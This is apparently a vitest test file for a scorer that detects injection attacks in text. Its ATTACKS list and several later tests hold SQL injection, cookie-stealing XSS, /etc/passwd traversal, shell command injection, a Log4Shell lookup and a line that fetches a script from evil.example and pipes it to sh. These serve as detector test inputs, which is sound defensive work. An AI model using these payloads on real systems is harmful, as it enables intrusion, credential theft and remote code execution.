import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  CERTAIN,
  decodeWeights,
  NOTHING,
  opinion,
  SHIPPED,
  score,
  scorerWith,
} from "../../support/source/detection/scorer.ts";

const ATTACKS = [
  "' or 1=1 -- ",
  "1 union select login, password from users",
  "<script>alert(document.cookie)</script>",
  '"><img src=x onerror=alert(1)>',
  "../../../../etc/passwd",
  "; cat /etc/passwd",
  "$(curl http://evil.example/x.sh | sh)",
  "$\u007bjndi:ldap://evil.example/a}",
];

const ORDINARY = [
  "Please select the best option from the list and drop us a line.",
  "O'Brien & Sons (est. 1987), 12 Main Street",
  "https://shop.example/list?page=2&sort=price",
  "<p>We met <b>twice</b> this week.</p>",
  "The union of both sets where order matters: see chapter 4.",
];

describe("scores", () => {
  test.each(ATTACKS)("%j looks like an attack", (text) => {
    expect(score(text)).toBeGreaterThan(0);
  });

  test.each(ORDINARY)("%j does not", (text) => {
    expect(score(text)).toBeLessThan(0);
  });

  test.each(["", "x", "hello", "'", "hello world, how are you?", "2024-05-01", "42", "a".repeat(100_000)])(
    "%j has nothing to judge",
    (text) => {
      expect(score(text)).toBe(NOTHING);
    },
  );

  test("find an attack in a long text", () => {
    const around = "The quick brown fox (of the fable) jumps; it doesn't stop. ".repeat(2000);
    // Prose within the window counts against it: a low score says nothing for a text.
    expect(score(around)).toBeLessThan(-9);
    for (const attack of ["<script>alert(document.cookie)</script>", "' union select password from users-- "])
      expect(score(`${around} ${attack} ${around}`)).toBeGreaterThan(-7);
  });

  test("are finite, within bounds and the same each time, whatever the text is", () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary-ascii" }), fc.string({ unit: "binary" })), (text) => {
        const first = score(text);
        expect(first).toBeGreaterThanOrEqual(NOTHING);
        expect(first).toBeLessThanOrEqual(CERTAIN);
        score("' or 1=1 -- <script>");
        expect(score(text)).toBe(first);
      }),
    );
  });

  test.each([
    ["openings of comments", "/*"],
    ["marks", "<'(;=`"],
    ["letters and marks", "a;b,"],
    ["zero bytes", "\0 "],
    ["keywords", "select union "],
    ["names of handlers without their equals sign", `on${"x".repeat(5)}        `],
    ["capitals and digits", "aA1."],
    ["points", "1."],
    ["high bytes", "\xff\xfe "],
    ["characters that are no bytes", "\u4f60\ud800"],
  ])("a megabyte of %s is judged", (_, text) => {
    expect(Number.isFinite(score(text.repeat(1_000_000 / text.length)))).toBe(true);
  });
});

describe("the share of prose", () => {
  test.each([
    ["", 1],
    ["We met twice.", 1],
    ["<<>>(){}", 0],
  ])("of %j is %d", (text, share) => {
    expect(opinion(text).prose).toBe(share);
  });

  test("is that of the window with the score", () => {
    const sentences = "When you select a table, it is not dropped. ".repeat(40);
    const code =
      "'; if (a[0] == b[1]) { f(x); } -- $(id); `id` || \"; <script>alert(1)</script> {{7*7}} ".repeat(2);
    const { prose } = opinion(code);
    for (const text of [sentences + code, code + sentences, sentences + code + sentences])
      expect(Math.abs(opinion(text).prose - prose)).toBeLessThan(0.25);
  });

  test("tells sentences from code", () => {
    expect(opinion("When you select a table, it is not dropped, isn't it?").prose).toBeGreaterThan(0.7);
    expect(opinion("if (a[0] == b[1]) { f(x); }").prose).toBeLessThan(0.3);
  });
});

describe("weights", () => {
  test("are 64 KB", () => {
    const { table } = decodeWeights(SHIPPED);
    expect(table.byteLength).toBe(65_536);
    expect(table.filter((entry) => (entry & 255) !== 0).length).toBeGreaterThan(16_384);
  });

  const small = {
    ...SHIPPED,
    bits: 2,
    bias: -1,
    scale: 0.5,
    table: btoa("\x01\x02\x03\xff\x05\xfb\x00\x7f"),
  };

  test("are check bytes, then signed steps", () => {
    const { table, shift, bias, scale } = decodeWeights(small);
    expect([...table]).toEqual([0x0105, 0x02fb, 0x0300, 0xff7f - 0x10000]);
    expect([shift, bias, scale]).toEqual([30, -1, 0.5]);
  });

  test("of another vocabulary or cut short are refused", () => {
    expect(() => decodeWeights({ ...small, vocabulary: "1-2" })).toThrow(/train them again/);
    expect(() => decodeWeights({ ...small, table: "AAAA" })).toThrow(/3 of 8 bytes/);
    expect(() => scorerWith({ ...small, vocabulary: "1-2" }).score("' or 1=1")).toThrow();
  });

  test("without any entry leave the bias", () => {
    const empty = scorerWith({ ...small, table: btoa("\0".repeat(8)) });
    expect(empty.score("' or 1=1")).toBe(-1);
  });
});
